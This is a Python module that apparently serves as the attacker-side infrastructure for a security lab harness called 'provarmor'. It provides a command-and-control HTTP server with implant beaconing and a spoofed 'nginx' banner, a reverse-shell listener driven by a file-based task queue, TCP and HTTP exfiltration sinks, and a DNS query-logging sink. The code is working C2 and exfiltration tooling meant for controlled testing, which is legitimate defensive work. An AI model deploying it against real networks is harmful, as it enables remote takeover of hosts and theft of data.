"""The lab's own servers: C2, exfiltration sinks, DNS-like sink, download mirror.

Run inside a lab namespace as ``python -m provarmor.lab.services --bind ADDRESS --root DIR``
with one or more of ``--http PORT`` (serve ``DIR/www``, implant tasking, store uploads),
``--shell PORT`` (reverse-shell listener fed from the task queue), ``--tcp PORT`` (store
whatever is sent) and ``--dns PORT`` (log each query name, answer NXDOMAIN).

Tasking is file based, so the operator (the lab runner) never opens a connection of its
own: a task is ``DIR/tasks/AGENT/NNNN.cmd``; the server hands the oldest one out (renaming
it ``.sent``) and stores the answer as ``DIR/results/NNNN.out``: the command's exit status
on the first line, then its output. Each server ends itself
after ``--lifetime`` seconds.
"""

from __future__ import annotations

import argparse
import contextlib
import socket
import threading
import time
from collections.abc import Sequence
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

SHELL_AGENT = "shell"
"""The task-queue name the reverse-shell listener reads."""


class TaskQueue:
    """The file-based queue between the operator and the implants."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self._lock = threading.Lock()

    def put(self, agent: str, number: int, command: str) -> None:
        folder = self.root / "tasks" / agent
        folder.mkdir(parents=True, exist_ok=True)
        temporary = folder / f"{number:04d}.tmp"
        temporary.write_text(command)
        temporary.rename(folder / f"{number:04d}.cmd")

    def take(self, agent: str) -> tuple[str, str] | None:
        """(task id, command) of the oldest task not yet handed out."""
        folder = self.root / "tasks" / agent
        with self._lock:
            pending = sorted(folder.glob("*.cmd")) if folder.is_dir() else []
            if not pending:
                return None
            task = pending[0]
            command = task.read_text()
            task.rename(task.with_suffix(".sent"))
        return task.stem, command

    def answer(self, task_id: str, output: bytes) -> None:
        folder = self.root / "results"
        folder.mkdir(parents=True, exist_ok=True)
        safe = "".join(char for char in task_id if char.isalnum())[:16] or "unknown"
        temporary = folder / f"{safe}.tmp"
        temporary.write_bytes(output)
        temporary.rename(folder / f"{safe}.out")

    def result(self, task_id: str) -> bytes | None:
        path = self.root / "results" / f"{task_id}.out"
        return path.read_bytes() if path.exists() else None


class _Store:
    def __init__(self, root: Path) -> None:
        self.folder = root / "received"
        self.folder.mkdir(parents=True, exist_ok=True)
        self._count = 0
        self._lock = threading.Lock()

    def keep(self, kind: str, data: bytes) -> None:
        with self._lock:
            self._count += 1
            number = self._count
        (self.folder / f"{kind}-{number:05d}").write_bytes(data)


def _handler(root: Path, *, beacon: str, result: str) -> type[BaseHTTPRequestHandler]:
    queue = TaskQueue(root)
    store = _Store(root)
    www = (root / "www").resolve()

    class Handler(BaseHTTPRequestHandler):
        server_version = "nginx"
        sys_version = ""

        def log_message(self, format: str, *args: object) -> None:
            return

        def _reply(self, status: int, body: bytes = b"") -> None:
            self.send_response(status)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self) -> None:
            path = self.path.split("?", 1)[0]
            if path.startswith(beacon + "/"):
                task = queue.take(path[len(beacon) + 1 :])
                self._reply(200, f"{task[0]}\n{task[1]}".encode() if task else b"")
                return
            target = (www / path.lstrip("/")).resolve()
            if target.is_file() and target.is_relative_to(www):
                self._reply(200, target.read_bytes())
            else:
                self._reply(404)

        def _body(self) -> bytes:
            length = int(self.headers.get("Content-Length") or 0)
            return self.rfile.read(min(length, 64 * 1024 * 1024))

        def do_POST(self) -> None:
            path = self.path.split("?", 1)[0]
            body = self._body()
            if path.startswith(result + "/"):
                queue.answer(path[len(result) + 1 :], body)
            else:
                store.keep("http", body)
            self._reply(200, b"ok\n")

        do_PUT = do_POST

    return Handler


def _serve_shell(listener: socket.socket, root: Path) -> None:
    queue = TaskQueue(root)
    while True:
        connection, _ = listener.accept()
        threading.Thread(target=_drive_shell, args=(connection, queue), daemon=True).start()


def _drive_shell(connection: socket.socket, queue: TaskQueue) -> None:
    with connection:
        while True:
            task = queue.take(SHELL_AGENT)
            if task is None:
                time.sleep(0.1)
                continue
            task_id, command = task
            marker = f"__done_{task_id}_{time.monotonic_ns()}__"
            connection.sendall(f"{{ {command}\n}} 2>&1; echo {marker} $?\n".encode())
            output, status = _read_until(connection, marker.encode())
            queue.answer(task_id, f"{status}\n".encode() + output)
            if status == 255:
                return


def _read_until(connection: socket.socket, marker: bytes) -> tuple[bytes, int]:
    """The output before ``marker`` and the exit status after it (255: connection lost)."""
    data = b""
    while marker not in data or not data.split(marker, 1)[1].endswith(b"\n"):
        chunk = connection.recv(65536)
        if not chunk:
            return data, 255
        data += chunk
    output, rest = data.split(marker, 1)
    status = rest.strip()
    return output, int(status) if status.isdigit() else 255


def _serve_tcp(listener: socket.socket, store: _Store) -> None:
    while True:
        connection, _ = listener.accept()
        threading.Thread(target=_drain, args=(connection, store), daemon=True).start()


def _drain(connection: socket.socket, store: _Store) -> None:
    data = b""
    with connection:
        connection.settimeout(30)
        with contextlib.suppress(OSError):
            while chunk := connection.recv(65536):
                data += chunk
    store.keep("tcp", data)


def query_name(packet: bytes) -> str | None:
    """The first question's name in a DNS query, or None when the packet is not one."""
    labels: list[str] = []
    offset = 12
    while offset < len(packet):
        length = packet[offset]
        if length == 0:
            return ".".join(labels)
        if length > 63 or offset + 1 + length > len(packet):
            return None
        labels.append(packet[offset + 1 : offset + 1 + length].decode("ascii", "replace"))
        offset += 1 + length
    return None


def nxdomain(packet: bytes) -> bytes:
    """The NXDOMAIN answer to ``packet`` (its id and question echoed back)."""
    flags = bytes([0x81, 0x83])
    return packet[:2] + flags + packet[4:6] + b"\x00\x00\x00\x00\x00\x00" + packet[12:]


def _serve_dns(sock: socket.socket, root: Path) -> None:
    log = root / "received" / "dns.log"
    log.parent.mkdir(parents=True, exist_ok=True)
    while True:
        packet, peer = sock.recvfrom(4096)
        name = query_name(packet)
        if name is None or len(packet) < 12:
            continue
        with log.open("a") as handle:
            handle.write(f"{peer[0]} {name}\n")
        sock.sendto(nxdomain(packet), peer)


def _listener(address: str, port: int, kind: int = socket.SOCK_STREAM) -> socket.socket:
    sock = socket.socket(socket.AF_INET, kind)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((address, port))
    if kind == socket.SOCK_STREAM:
        sock.listen(16)
    return sock


def serve(arguments: argparse.Namespace) -> None:
    """Start the requested servers and return after ``--lifetime`` seconds."""
    root = Path(arguments.root)
    (root / "www").mkdir(parents=True, exist_ok=True)
    threads = []
    if arguments.http:
        handler = _handler(root, beacon=arguments.beacon, result=arguments.result)
        http = ThreadingHTTPServer((arguments.bind, arguments.http), handler)
        http.daemon_threads = True
        threads.append(threading.Thread(target=http.serve_forever, daemon=True))
    if arguments.shell:
        shell = _listener(arguments.bind, arguments.shell)
        threads.append(threading.Thread(target=_serve_shell, args=(shell, root), daemon=True))
    if arguments.tcp:
        tcp = _listener(arguments.bind, arguments.tcp)
        threads.append(threading.Thread(target=_serve_tcp, args=(tcp, _Store(root)), daemon=True))
    if arguments.dns:
        dns = _listener(arguments.bind, arguments.dns, socket.SOCK_DGRAM)
        threads.append(threading.Thread(target=_serve_dns, args=(dns, root), daemon=True))
    for thread in threads:
        thread.start()
    (root / "ready").write_text("ok\n")
    time.sleep(arguments.lifetime)


def main(argv: Sequence[str] | None = None) -> None:
    parser = argparse.ArgumentParser(prog="provarmor.lab.services")
    parser.add_argument("--bind", required=True)
    parser.add_argument("--root", required=True)
    parser.add_argument("--http", type=int, default=0)
    parser.add_argument("--shell", type=int, default=0)
    parser.add_argument("--tcp", type=int, default=0)
    parser.add_argument("--dns", type=int, default=0)
    parser.add_argument("--beacon", default="/beacon")
    parser.add_argument("--result", default="/result")
    parser.add_argument("--lifetime", type=float, default=900.0)
    serve(parser.parse_args(argv))


if __name__ == "__main__":
    main()
